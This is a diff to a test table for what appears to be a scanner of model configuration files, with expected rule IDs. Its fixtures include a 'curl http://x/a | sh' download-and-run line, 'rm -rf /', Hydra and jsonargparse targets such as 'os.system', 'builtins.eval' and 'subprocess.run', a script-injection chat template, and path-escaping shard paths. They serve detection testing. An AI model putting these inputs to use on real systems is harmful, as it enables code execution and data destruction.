@@ -23,6 +23,7 @@ describe('what a loader would run, import or read is told', () => {
     ['the same deep inside', { a: [{ b: { _target_: 'builtins.eval', _args_: ['1'] } }] }, 'MDL-CFG-005', 'critical'],
     ['one through a neutral module', { _target_: 'logging.os.system' }, 'MDL-CFG-005', 'critical'],
     ['a loader of pickles', { _target_: 'torch.load', f: 'x' }, 'MDL-CFG-005', 'critical'],
+    ['a class path of jsonargparse', { model: { class_path: 'os.system', init_args: { command: 'id' } } }, 'MDL-CFG-005', 'critical'],
     ['a Hydra target of nobody', { _target_: 'my.module.Thing' }, 'MDL-CFG-006', 'high'],
     ['a latent diffusion target that runs', { model_type: 'x', target: 'subprocess.run', params: {} }, 'MDL-CFG-005', 'critical'],
     [
@@ -45,6 +46,8 @@ describe('what a loader would run, import or read is told', () => {
     ['a shard outside', { metadata: {}, weight_map: { w: '../x.safetensors' } }, 'MDL-CFG-007', 'high'],
     ['a shard by an absolute path', { weight_map: { w: '/tmp/x.bin' } }, 'MDL-CFG-007', 'high'],
     ['a command', { transformers_version: '4', hook: 'curl http://x/a | sh' }, 'MDL-CFG-002', 'high'],
+    ['a command beside a tag', { transformers_version: '4', hook: 'curl http://x/a | sh {{ x }}' }, 'MDL-CFG-002', 'high'],
+    ['a template that writes a command', { model_type: 'x', chat_template: '{{ x }}<script>alert(1)</script>' }, 'MDL-TPL-006', 'medium'],
     ['a command in any document', { settings: { debug_command: 'rm -rf /' } }, 'MDL-CFG-002', 'high'],
     ['a command at a harmless key', { settings: { text: 'rm -rf /' } }, 'MDL-CFG-014', 'medium'],
     ['a template in any document', { anything: climbing }, 'MDL-TPL-001', 'critical'],
